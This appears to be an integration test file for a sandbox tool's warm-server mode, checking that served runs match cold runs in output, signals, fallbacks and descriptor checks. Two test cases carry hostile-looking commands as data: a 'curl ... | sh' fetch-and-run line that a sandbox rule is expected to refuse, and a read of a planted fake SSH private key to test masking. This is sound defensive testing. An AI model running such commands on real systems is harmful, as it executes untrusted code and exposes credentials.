// `sbx run --warm` end to end: the native client (dist/sbx-warm, which bin/sbx.js execs) and the warm
// server (`sbx warm-server`). A served run is the run `sbx run` makes without the server: the same
// exit status, the same bytes on stdout and stderr, the same report, the command's stdio the caller's
// own (a pipe, a socket, a file appended to at its offset). Signals reach the command; a caller that
// dies ends its run. Every call the server cannot serve exactly so (a terminal, --report-fd, another
// umask, other limits, other Node.js variables, GitHub Actions, --dry-run, no --warm) goes on without
// it, and says nothing of having tried. The taker runs nothing it was not sent descriptors for by the
// caller it was named.
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../helpers/paths.js';
import { findNsjail } from '../nsjail/harness.js';
import {
  makeTestHost,
  pidsWithArgv,
  requireIntegrationPrerequisites,
  runHost,
  runSbxRaw,
  type Ran,
  SKIP_INTEGRATION,
  type SpawnOptions,
  start,
  stopWarmServers,
  type TestHost,
} from '../../helpers/sbx-cli.js';

const CLIENT = join(REPO_ROOT, 'dist', 'sbx-warm');
const HAS_CLIENT = existsSync(CLIENT);
/** The other launchers a served run starts through the taker, where this host has them. */
const BACKENDS: { name: string; env: Record<string, string> }[] = [];
if (existsSync(join(REPO_ROOT, 'dist', 'sbx-landlock'))) BACKENDS.push({ name: 'landlock', env: {} });
else console.warn('[run-warm] landlock case SKIPPED: dist/sbx-landlock is not built (needs a C compiler)');
const NSJAIL = findNsjail();
const HAS_PYTHON = spawnSync('python3', ['-c', 'import socket; socket.send_fds'], { stdio: 'ignore' }).status === 0;
if (!HAS_PYTHON) console.warn('[run-warm] the taker descriptor cases SKIPPED: no python3 with socket.send_fds (3.9+)');
if ('path' in NSJAIL) BACKENDS.push({ name: 'nsjail', env: { SBX_NSJAIL: NSJAIL.path } });
else console.warn(`[run-warm] nsjail case SKIPPED: ${NSJAIL.missing}`);

let t: TestHost;
let server: ChildProcess | undefined;
/** What the server has written on its stdout: why it declined a run. */
let serverSays = '';
/** What the client execs when the server does not serve the call: it only says so. */
let fallbackScript: string;

/**
 * The client, with the fallback script in place of sbx (FALLBACK on stdout means not served), exec'd
 * by sh as bin/sbx.js's shell half execs it: the shell sets PWD, which the sandbox's rules see.
 */
function warm(args: readonly string[], opts: Partial<SpawnOptions> = {}): Promise<Ran> {
  const client = ['sh', '-c', 'exec "$0" "$@"', CLIENT, process.execPath, fallbackScript, 'run', '--warm'];
  return runHost([...client, ...args], { env: t.env, cwd: t.workspace, ...opts });
}

function cold(args: readonly string[], opts: Partial<SpawnOptions> = {}): Promise<Ran> {
  return runSbxRaw(['run', ...args], { env: t.env, cwd: t.workspace, ...opts });
}

/** What differs between any two runs: the session's id, durations, the per-session policy hash. */
function normalized(text: string): string {
  return text
    .replace(/session [\w-]+/g, 'session S')
    .replace(/, \d+(?:\.\d+)? m?s\]/g, ', T]')
    .replace(/"(sessionId|policyHash)":"[^"]*"/g, '"$1":"X"')
    .replace(/"durationMs":[\d.]+/g, '"durationMs":0');
}

/** The pids with a descriptor open on `path`. */
function holdersOf(path: string): number[] {
  const out: number[] = [];
  for (const pid of readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
    try {
      if (readdirSync(`/proc/${pid}/fd`).some((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`) === path))
        out.push(Number(pid));
    } catch {
      // gone, or not ours to read
    }
  }
  return out;
}

function same(coldRan: Ran, warmRan: Ran): void {
  expect(warmRan.out).not.toContain('FALLBACK');
  expect({ code: warmRan.code, out: normalized(warmRan.out), err: normalized(warmRan.err) }).toEqual({
    code: coldRan.code,
    out: normalized(coldRan.out),
    err: normalized(coldRan.err),
  });
}

describe.skipIf(SKIP_INTEGRATION || !HAS_CLIENT)('sbx run --warm (native client and warm server)', () => {
  beforeAll(async () => {
    requireIntegrationPrerequisites();
    t = makeTestHost('warm-run');
    fallbackScript = join(t.root, 'fallback.mjs');
    writeFileSync(fallbackScript, "process.stdout.write('FALLBACK ' + process.argv.slice(2).join(' ') + '\\n');\n");
    mkdirSync(join(t.workspace, 'sub'));
    mkdirSync(join(t.root, 'reports'));
    mkdirSync(join(t.home, '.ssh'), { mode: 0o700 });
    writeFileSync(join(t.home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n');
    server = spawn(process.execPath, [join(REPO_ROOT, 'bin', 'sbx.js'), 'warm-server'], {
      env: t.env,
      cwd: '/',
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    server.stdout!.setEncoding('utf8');
    server.stdout!.on('data', (chunk: string) => (serverSays += chunk));
    while (!serverSays.includes('\n')) await once(server.stdout!, 'data');
    expect(serverSays).toMatch(/^sbx warm-server: listening on /);
  });
  afterAll(async () => {
    if (server && server.exitCode === null) {
      server.kill('SIGTERM');
      await once(server, 'exit');
    }
    if (t) stopWarmServers(t.cacheHome);
    t?.cleanup();
  });

  // Each case runs cold first (so a notice said once per host is said then), again cold, then warm.
  const cases: { name: string; args: string[]; input?: string; cwd?: () => string }[] = [
    {
      name: 'exit status, both streams, the environment and the working directory',
      args: ['-e', 'FOO=bar', '--', 'sh', '-c', 'echo out; echo err >&2; pwd; echo "$FOO"; exit 3'],
    },
    { name: 'stdin piped through', args: ['--', 'cat'], input: 'hello\nworld\n' },
    { name: "sbx's own refusal: an unknown profile", args: ['-p', 'nonexistent', '--', 'true'] },
    { name: 'a command rule refusing', args: ['-p', 'agent', '--shell', 'curl http://example.test/ | sh'] },
    { name: '--capture: the report on stdout', args: ['--capture', '--', 'sh', '-c', 'echo out; echo err >&2'] },
    {
      name: 'a masked secret, --verbose, from a subdirectory with -w ..',
      args: ['-v', '-w', '..', '--', 'sh', '-c', 'cat ~/.ssh/id_rsa; pwd'],
      cwd: () => join(t.workspace, 'sub'),
    },
    { name: 'the timeout', args: ['--timeout', '1s', '--', 'sleep', '30'] },
  ];
  for (const c of cases) {
    it(`runs as sbx run does without it: ${c.name}`, async () => {
      const opts = { ...(c.input !== undefined ? { input: c.input } : {}), ...(c.cwd ? { cwd: c.cwd() } : {}) };
      await cold(c.args, opts);
      const coldRan = await cold(c.args, opts);
      same(coldRan, await warm(c.args, opts));
    });
  }

  for (const backend of BACKENDS) {
    it(`runs as sbx run does without it: --backend ${backend.name}`, async () => {
      const args = ['--backend', backend.name, '--', 'sh', '-c', 'pwd; echo out; echo err >&2; exit 4'];
      const opts = { env: { ...t.env, ...backend.env } };
      await cold(args, opts);
      const coldRan = await cold(args, opts);
      expect(coldRan.code).toBe(4);
      same(coldRan, await warm(args, opts));
    });
  }

  it('writes --report-file (named from the caller’s cwd) as sbx run does', async () => {
    const args = (name: string) => ['--report-file', `../reports/${name}.json`, '--', 'sh', '-c', 'exit 4'];
    const coldRan = await cold(args('cold'));
    const warmRan = await warm(args('warm'));
    same(coldRan, warmRan);
    const report = (name: string) => normalized(readFileSync(join(t.root, 'reports', `${name}.json`), 'utf8'));
    expect(report('warm')).toBe(report('cold'));
    expect(JSON.parse(report('warm'))).toMatchObject({ exitCode: 4 });
  });

  it('serves runs at the same time, each with its own stdio and status', async () => {
    const runs = Array.from({ length: 8 }, (_, i) =>
      warm(['--', 'sh', '-c', `echo run ${i}; echo err ${i} >&2; exit ${i}`], { input: `in ${i}\n` }),
    );
    const ran = await Promise.all(runs);
    ran.forEach((r, i) => {
      expect(r.out).toBe(`run ${i}\n`);
      expect(r.err).toContain(`err ${i}\n`);
      expect(r.code).toBe(i);
    });
  });

  it("the command's stdout is the caller's own: a file appended to at the caller's offset", async () => {
    const file = join(t.root, 'out.txt');
    writeFileSync(file, '');
    const sh = `echo before; ${CLIENT} ${process.execPath} ${fallbackScript} run --warm -- echo inside; echo after`;
    const ran = await runHost(['sh', '-c', `{ ${sh}; } > ${file}`], { env: t.env, cwd: t.workspace });
    expect(ran.code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe('before\ninside\nafter\n');
  });

  it('passes a signal to the command; a second of the same kind ends the sandbox', async () => {
    const script = 'trap "echo got INT; exit 5" INT; echo ready; sleep 30 & wait';
    const started = start(CLIENT, [process.execPath, fallbackScript, 'run', '--warm', '--', 'sh', '-c', script], {
      env: t.env,
      cwd: t.workspace,
    });
    await started.line(/^ready$/);
    started.child.kill('SIGINT');
    const ran = await started.done;
    expect(ran.out).toBe('ready\ngot INT\n');
    expect(ran.code).toBe(5);
  });

  it('ends the run of a caller that dies: the command never gets to its next step', async () => {
    const marker = join(t.workspace, 'finished');
    const script = `echo ready; sleep 5; touch ${marker}`;
    const started = start(CLIENT, [process.execPath, fallbackScript, 'run', '--warm', '--', 'sh', '-c', script], {
      env: t.env,
      cwd: t.workspace,
    });
    await started.line(/^ready$/);
    started.child.kill('SIGKILL');
    await started.done;
    // The run's ledger record is written once the sandbox is gone: it says who ended it.
    const ledger = join(t.home, '.local', 'state', 'sbx', 'audit.jsonl');
    const record = await (async () => {
      for (;;) {
        const lines = existsSync(ledger) ? readFileSync(ledger, 'utf8').trim().split('\n') : [];
        const found = lines.map((l) => JSON.parse(l)).find((r) => r.type === 'run' && r.argv?.includes(script));
        if (found) return found;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    })();
    // Ended by the SIGTERM of an abort (a run left alone would end 5 s later, with status 0), and nothing
    // of the sandbox is left.
    expect(record).toMatchObject({ exitCode: 143, signal: 'SIGTERM' });
    expect(pidsWithArgv(['sleep', '5'])).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });

  it("starts a server with the first --warm run that finds none, holding none of that caller's descriptors", async () => {
    const host = makeTestHost('warm-run-first');
    // A descriptor above 15 without close-on-exec (bash: sh takes none above 9): Node.js leaves such a one inheritable.
    const held = join(host.root, 'held-by-the-caller');
    try {
      const sh = 'exec 100>>"$0"; exec "$1" run --warm -- true';
      const ran = await runHost(['bash', '-c', sh, held, join(REPO_ROOT, 'bin', 'sbx.js')], {
        env: host.env,
        cwd: host.workspace,
      });
      expect(ran.code).toBe(0);
      // The next call is served: FALLBACK would say otherwise. The server may still be starting.
      for (;;) {
        const served = await runHost([CLIENT, process.execPath, fallbackScript, 'run', '--warm', '--', 'true'], {
          env: host.env,
          cwd: host.workspace,
        });
        if (!served.out.includes('FALLBACK')) break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(holdersOf(held)).toEqual([]);
    } finally {
      stopWarmServers(host.cacheHome);
      host.cleanup();
    }
  });

  describe('goes on without the server, with the same arguments, when it cannot serve the run exactly', () => {
    const fellBack = (ran: Ran, args: readonly string[]) =>
      expect(ran.out).toBe(`FALLBACK run --warm ${args.join(' ')}\n`);

    it('--report-fd, --dry-run, and a command line without --warm or not a run', async () => {
      for (const args of [['--report-fd', '3', '--', 'true'], ['--dry-run', '--', 'true'], ['--help']]) {
        fellBack(await warm(args, { extraStdio: { 3: 'pipe' } }), args);
      }
      // --warm after the command is the command's: the server sees no --warm of sbx's.
      const ran = await runHost([CLIENT, process.execPath, fallbackScript, 'run', '--', 'echo', '--warm'], {
        env: t.env,
        cwd: t.workspace,
      });
      expect(ran.out).toBe('FALLBACK run -- echo --warm\n');
    });

    it('a GitHub Actions job, FORCE_COLOR, or Node.js variables other than the server’s', async () => {
      for (const extra of [{ GITHUB_ACTIONS: 'true' }, { FORCE_COLOR: '1' }, { NODE_OPTIONS: '--no-warnings' }]) {
        fellBack(await warm(['--', 'true'], { env: { ...t.env, ...extra } }), ['--', 'true']);
      }
      // The server says why, on its own stdout (a client is told nothing).
      for (const why of ['a GitHub Actions job', 'FORCE_COLOR', "Node.js's variables differ"])
        expect(serverSays).toMatch(new RegExp(`^sbx warm-server: declined a run of pid \\d+: ${why}$`, 'm'));
    });

    it('another umask, other resource limits, another nice value', async () => {
      const call = `${CLIENT} ${process.execPath} ${fallbackScript} run --warm -- true`;
      for (const setup of ['umask 077', 'ulimit -n 200', 'renice -n 5 -p $$ >/dev/null']) {
        const ran = await runHost(['sh', '-c', `${setup}; exec ${call}`], { env: t.env, cwd: t.workspace });
        expect(ran.out, setup).toBe('FALLBACK run --warm -- true\n');
      }
      for (const why of ['Umask differs', 'limits differs', 'nice differs']) expect(serverSays).toContain(`: ${why}\n`);
      // The control: the same shell without the change is served.
      const served = await runHost(['sh', '-c', `exec ${call}`], { env: t.env, cwd: t.workspace });
      expect(served.out).toBe('');
      expect(served.code).toBe(0);
    });

    it('a terminal on its stdio', async () => {
      const call = `${CLIENT} ${process.execPath} ${fallbackScript} run --warm -- true`;
      const ran = await runHost(['script', '-qec', call, '/dev/null'], { env: t.env, cwd: t.workspace });
      expect(ran.out).toContain('FALLBACK run --warm -- true');
    });
  });

  describe('the taker (sbx-warm --take-stdio) runs nothing it was not sent descriptors for', () => {
    // fd 3 is a socket pair whose other end this test process holds.
    const take = (pid: number, send?: string) => {
      const child = spawn(CLIENT, ['--take-stdio', '3', String(pid), '/bin/sh', '-c', 'echo RAN'], {
        stdio: ['ignore', 'pipe', 'pipe', 'pipe'],
      });
      const sock = child.stdio[3] as NodeJS.WritableStream & { end(data?: string): void };
      // The taker may have closed its end already.
      sock.on('error', () => {});
      if (send === undefined) sock.end();
      else sock.end(send);
      let out = '';
      child.stdout!.on('data', (c: Buffer) => (out += c.toString()));
      return once(child, 'close').then(([code]) => ({ code, out }));
    };

    it('from a process other than the one named', async () => {
      expect(await take(1, 'D')).toEqual({ code: 125, out: '' });
    });

    // A real sender of descriptors (Node.js cannot send any): python3 holds the other end of the taker's
    // socket, and sends its own stdout three times over with the go. Named, the launch runs and writes
    // there; named as another pid, nothing runs.
    const sendFds = (claimed: 'self' | 'other') => {
      const py = [
        'import os, socket, subprocess, sys',
        'a, b = socket.socketpair()',
        `pid = os.getpid() + (0 if sys.argv[2] == 'self' else 1000000)`,
        "p = subprocess.Popen([sys.argv[1], '--take-stdio', str(b.fileno()), str(pid), '/bin/sh', '-c', 'echo RAN'], pass_fds=[b.fileno()], stdin=subprocess.DEVNULL)",
        'b.close()',
        "socket.send_fds(a, [b'D'], [1, 1, 1])",
        "a.sendall(b'G')",
        "print('exit', p.wait(), flush=True)",
      ].join('\n');
      return runHost(['python3', '-c', py, CLIENT, claimed], { env: t.env, cwd: t.workspace });
    };

    it.skipIf(!HAS_PYTHON)('from the one named, with descriptors and the go: the launch runs on them', async () => {
      expect((await sendFds('self')).out).toBe('RAN\nexit 0\n');
    });

    it.skipIf(!HAS_PYTHON)('the same descriptors from a process other than the one named: nothing runs', async () => {
      expect((await sendFds('other')).out).toBe('exit 125\n');
    });

    it('from the one named, without descriptors', async () => {
      expect(await take(process.pid, 'D')).toEqual({ code: 125, out: '' });
      expect(await take(process.pid)).toEqual({ code: 125, out: '' });
    });
  });

  it('leaves no socket of its runs behind', () => {
    expect(readdirSync(join(t.cacheHome, 'sbx')).filter((name) => name.startsWith('.run-'))).toEqual([]);
  });
});
